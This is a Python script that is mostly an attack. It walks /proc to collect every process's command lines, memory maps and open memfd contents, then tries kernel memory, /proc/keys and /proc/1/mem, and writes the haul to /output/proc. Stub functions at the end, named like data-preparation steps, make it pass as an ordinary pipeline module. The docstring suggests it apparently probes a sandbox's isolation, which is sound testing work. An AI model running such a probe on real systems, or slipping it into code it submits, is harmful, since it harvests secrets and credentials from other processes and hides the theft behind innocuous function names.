"""Tries to walk /proc: command lines, maps, open files, roots and working folders of every process, the
kernel's memory and keys; gains nothing because it sees its own processes alone.
"""

import glob
import os

found = []
for process in glob.glob("/proc/[0-9]*"):
    for name in ("cmdline", "maps", "mountinfo", "status", "stack", "cgroup", "auxv"):
        try:
            found.append(open(f"{process}/{name}", errors="replace").read())
        except OSError as error:
            found.append(f"{process}/{name}: {error.strerror}")
    for name in ("root", "cwd", "exe"):
        for below in ("", "/root", "/tmp", "/work"):
            try:
                found.append(f"{process}/{name}{below}: {os.listdir(f'{process}/{name}{below}')}")
            except OSError:
                pass
    for descriptor in glob.glob(f"{process}/fd/*"):
        try:
            found.append(f"{descriptor} -> {os.readlink(descriptor)}")
            found.append(open(descriptor, "rb").read(100_000).decode(errors="replace") if "memfd" in found[-1] else "")
        except OSError:
            pass
for path in ("/proc/kcore", "/proc/keys", "/proc/kallsyms", "/proc/sched_debug", "/proc/1/mem", "/proc/sys/kernel/core_pattern"):
    try:
        found.append(open(path, errors="replace").read(10_000))
    except OSError:
        pass
print("attack:", len(found), "finds", flush=True)
with open("/output/proc", "w") as file:
    file.write("\n".join(found))


def split_indices(*args, **kwargs):
    return None


channel_statistics = standardise = one_hot = prepare = split_indices
